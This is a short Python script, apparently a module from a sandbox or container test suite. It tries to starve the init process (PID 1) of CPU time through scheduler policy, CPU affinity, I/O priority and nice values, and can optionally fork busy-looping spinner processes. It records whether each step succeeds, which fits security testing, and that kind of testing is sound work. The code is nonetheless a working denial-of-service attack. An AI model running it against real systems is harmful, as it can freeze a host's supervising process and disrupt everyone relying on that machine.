"""Takes the processor from PID 1, so that it could never end the program: by policy, priority, affinity, and by crowds."""

import os
from typing import Callable

import attack

SPINNERS = int(attack.PARAMETERS.get("spinners", 0))
IOPRIO_WHO_PROCESS, IOPRIO_IDLE = 1, 3 << 13


def asked(change: Callable[[], object]) -> str:
    try:
        change()
        return "it was accepted"
    except OSError as error:
        return attack.reached(-1, error.errno or 0)


def idle() -> None:
    os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))
    os.sched_setscheduler(1, os.SCHED_OTHER, os.sched_param(0))


try:
    os.setsid()  # without a sandbox the group is the host's
except PermissionError:
    pass
cpu = min(os.sched_getaffinity(0))
attack.attempt("affinity", lambda: asked(lambda: os.sched_setaffinity(1, {cpu})))
attack.attempt("SCHED_IDLE", lambda: asked(idle))
attack.attempt("ioprio", lambda: attack.syscall("ioprio_set", IOPRIO_WHO_PROCESS, 1, IOPRIO_IDLE))
attack.attempt("nice 19", lambda: asked(lambda: os.setpriority(os.PRIO_PROCESS, 1, 19)))
attack.attempt("nice 19 of the group", lambda: asked(lambda: os.setpriority(os.PRIO_PGRP, 0, 19)))
attack.attempt("nice 19 of the user", lambda: asked(lambda: os.setpriority(os.PRIO_USER, 0, 19)))

if SPINNERS:
    os.sched_setaffinity(0, {cpu})
    for _ in range(SPINNERS):
        if os.fork() == 0:
            break
    else:
        print("spinning", flush=True)
    while True:
        pass
